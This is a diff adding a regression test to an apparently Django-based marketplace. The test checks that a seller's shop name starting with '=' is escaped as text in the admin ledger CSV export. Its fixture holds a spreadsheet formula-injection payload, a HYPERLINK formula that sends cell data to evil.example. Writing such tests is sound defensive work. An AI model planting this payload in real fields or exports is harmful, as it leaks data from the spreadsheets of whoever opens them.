@@ -220,3 +220,22 @@ def test_only_platform_admins_see_it(client: Client, url: str) -> None:
     assert client.get(url)["Location"].startswith("/accounts/login/")
     assert signed_in(UserFactory()).get(url).status_code == 404
     assert signed_in(make_platform_admin()).post(url).status_code == 405
+
+
+def test_a_shop_named_like_a_formula_is_text_in_the_csv(sandbox: Any) -> None:
+    """The shop's name is its seller's to type: in the admin's spreadsheet a name starting with "="
+    ran as a formula (a link that sends the sheet's data away). It is written as text instead."""
+    clear_of_a_month_end(sandbox)
+    shop = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
+    seller = active_seller(sandbox, currency="jpy", shop=shop)
+    paid_order(sandbox, seller, 10_000)
+    [month] = {
+        f"{t.astimezone(timezone.get_default_timezone()):%Y-%m}"
+        for t in LedgerTransaction.objects.values_list("occurred_at", flat=True)
+    }
+    admin = signed_in(make_platform_admin(email="root@example.com"))
+    lines = list(csv.DictReader(io.StringIO(admin.get("/console/ledger.csv", {"month": month}).content.decode())))
+    shops = {r["shop"] for r in lines if r["stripe_account"] == str(seller.stripe_account_id)}
+    assert shops == {f"'{shop}"}
+    assert all(not r["shop"].startswith(("=", "+", "-", "@")) for r in lines)
+    assert {int(r["net_change"]) for r in lines if r["account"] == "Stripe balance" and r["stripe_account"]} == {9_000}
